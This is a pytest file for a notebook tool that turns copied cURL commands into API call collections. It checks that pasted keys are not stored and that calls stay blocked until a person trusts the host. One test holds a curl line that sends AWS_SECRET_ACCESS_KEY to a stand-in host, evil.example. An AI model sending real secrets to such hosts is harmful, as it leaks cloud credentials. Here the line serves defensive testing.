"""``%apiconn_import`` in a notebook: from what somebody copied to a table, and nothing trusted or kept on the way."""

from __future__ import annotations

import getpass
from pathlib import Path
from typing import Any

import pytest

from apiconn_nb.errors import ConfigError, FenceError, UsageError
from tests.canary import Canary
from tests.shell import NotebookShell


def test_from_a_copied_curl_line_to_a_table(magics: NotebookShell, shop: Any, canary: Canary) -> None:
    key = canary.watch(shop.credentials.live.api_key)
    report = magics.run(
        f"%%apiconn_import shop\ncurl '{shop.url}/key-in-header/customers?per_page=5' \\\n"
        f"  -H 'X-Api-Key: {key}' -H 'Accept: application/json' --compressed -k"
    )
    said = repr(report)
    assert "--compressed" in said
    assert "-k: certificates are always checked" in said
    assert "empty it before the notebook is saved" in said
    canary.assert_absent(said, Path("apiconn.toml"), "\n".join(magics.history()), magics.user_ns["In"][-1])
    with pytest.raises(
        FenceError, match=rf"not been let through to {shop.url}: nothing was sent.*%apiconn_auth shop --trust"
    ):
        magics.run("%apicall shop.customers")
    assert shop.url in repr(magics.run("%apiconn_auth shop --trust"))
    table = magics.run("%apicall shop.customers")
    assert len(table) == 5
    assert 'key = "prompt"' in Path("apiconn.toml").read_text()
    canary.assert_absent(Path("apiconn.toml"), magics.display_text())


def test_the_same_text_again_and_more_calls(magics: NotebookShell, shop: Any) -> None:
    curl = f"curl '{shop.url}/none/customers?per_page=5'"
    magics.run(f"%%apiconn_import shop\n{curl}")
    magics.run(f"%%apiconn_import shop\n{curl}\n")
    again = magics.run(f"%%apiconn_import shop\ncurl {shop.url}/none/orders?limit=2")
    assert "was there already" in repr(again)
    text = Path("apiconn.toml").read_text()
    assert text.count("[shop.calls.") == 2
    with pytest.raises(UsageError, match=r"There is a collection shop already, .*--name"):
        magics.run("%%apiconn_import shop\ncurl https://api.example.org/x")
    magics.run("%%apiconn_import shop --replace\ncurl https://api.example.org/x")
    assert 'base_url = "https://api.example.org"' in Path("apiconn.toml").read_text()


def test_calls_are_added_to_a_collection_that_a_person_made(
    magics: NotebookShell, shop: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its own authentication stays, what it trusts too: no --trust is asked for."""
    monkeypatch.setenv("SHOP_KEY", shop.credentials.live.api_key)
    magics.run(f"%apiconn_auth shop key-in-header --key-name X-Api-Key --key env:SHOP_KEY --base-url {shop.url}")
    magics.run(f"%%apiconn_import shop\ncurl '{shop.url}/key-in-header/orders?limit=3' -H 'X-Api-Key: another'")
    assert len(magics.run("%apicall shop.orders")) == 3


def test_a_file_and_what_is_wrong_with_others(magics: NotebookShell, tmp_path: Path) -> None:
    (tmp_path / "x.json").write_text('{"openapi": "3.1.0", "info": {"title": "My API"}, "paths": {"/a": {"get": {}}}}')
    assert "the base URL, which is not said" in repr(magics.run("%apiconn_import x.json"))
    assert "my_api" in Path("apiconn.toml").read_text()
    (tmp_path / "none.json").write_text('{"openapi": "3.1.0", "paths": {}, "webhooks": {"x": {}}}')
    with pytest.raises(ConfigError, match="nothing was imported: webhooks"):
        magics.run("%apiconn_import none.json")
    with pytest.raises(ConfigError, match=r"There is no file nothing\.json"):
        magics.run("%apiconn_import nothing.json")
    (tmp_path / "y.txt").write_text("just words")
    with pytest.raises(ConfigError, match=r"y\.txt is in no format .* cURL"):
        magics.run("%apiconn_import y.txt")
    (tmp_path / "z.bin").write_bytes(b"\xff\xfe\x00\xd8")
    with pytest.raises(ConfigError, match="no text"):
        magics.run("%apiconn_import z.bin")
    with pytest.raises(UsageError, match="What should be imported"):
        magics.run("%apiconn_import")


def test_what_was_copied_is_asked_for_in_a_hidden_field(
    magics: NotebookShell, monkeypatch: pytest.MonkeyPatch, canary: Canary
) -> None:
    """A frontend's field keeps no line breaks, so a continued command comes as one line."""
    token = canary("token")
    asked: list[str] = []

    def from_frontend(prompt: str = "") -> str:
        asked.append(prompt)
        return rf"curl 'https://api.example.org/me' \  -H 'Authorization: Bearer {token}' \  --compressed"

    monkeypatch.setattr(getpass, "getpass", from_frontend)
    report = magics.run("%apiconn_import - --name me")
    assert asked
    assert "me.me" in repr(report)
    canary.assert_absent(repr(report), Path("apiconn.toml"), "\n".join(magics.history()))


def _nothing() -> str:
    raise OSError("there is no clipboard")


def test_headless_says_what_to_do(magics: NotebookShell, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(magics.hooks, "clipboard_get", lambda: _nothing())
    with pytest.raises(ConfigError, match="save it to a file"):
        magics.run("%apiconn_import -")


def test_trust_names_what_would_be_sent(magics: NotebookShell) -> None:
    """A copied line may name any variable of the environment: the person sees which before it goes anywhere."""
    magics.run('%%apiconn_import evil\ncurl -H "X-Api-Key: $AWS_SECRET_ACCESS_KEY" https://evil.example/x')
    with pytest.raises(FenceError, match=r"https://evil\.example"):
        magics.run("%apicall evil.x")
    said = repr(magics.run("%apiconn_auth evil --trust"))
    assert "https://evil.example" in said
    assert "env:AWS_SECRET_ACCESS_KEY" in said


def test_another_base_url_is_not_trusted(magics: NotebookShell, shop: Any) -> None:
    magics.run(f"%%apiconn_import shop\ncurl {shop.url}/key-in-header/me -H 'X-Api-Key: x1234567'")
    magics.run("%apiconn_auth shop --trust")
    magics.run("%apiconn_auth shop --base-url https://elsewhere.example")
    with pytest.raises(FenceError, match=r"https://elsewhere\.example"):
        magics.run("%apicall shop GET /key-in-header/me")
    assert "trusted_origins" in Path("apiconn.toml").read_text()


def test_without_a_credential_nobody_needs_to_be_trusted(magics: NotebookShell, shop: Any) -> None:
    magics.run(f"%%apiconn_import open\ncurl {shop.url}/none/customers?per_page=4")
    assert len(magics.run("%apicall open.customers")) == 4


def test_somebody_elses_collection_file_is_not_trusted(magics: NotebookShell, tmp_path: Path) -> None:
    (tmp_path / "theirs.toml").write_text(
        '[their]\nbase_url = "https://their.example"\ntrusted_origins = "https://their.example"\n'
        '[their.auth]\nmethod = "key-in-header"\nkey = "env:HOME"\n[their.calls.x]\nrequest = "GET /x"\n'
    )
    magics.run("%apiconn_import theirs.toml")
    with pytest.raises(FenceError, match="--trust"):
        magics.run("%apicall their.x")
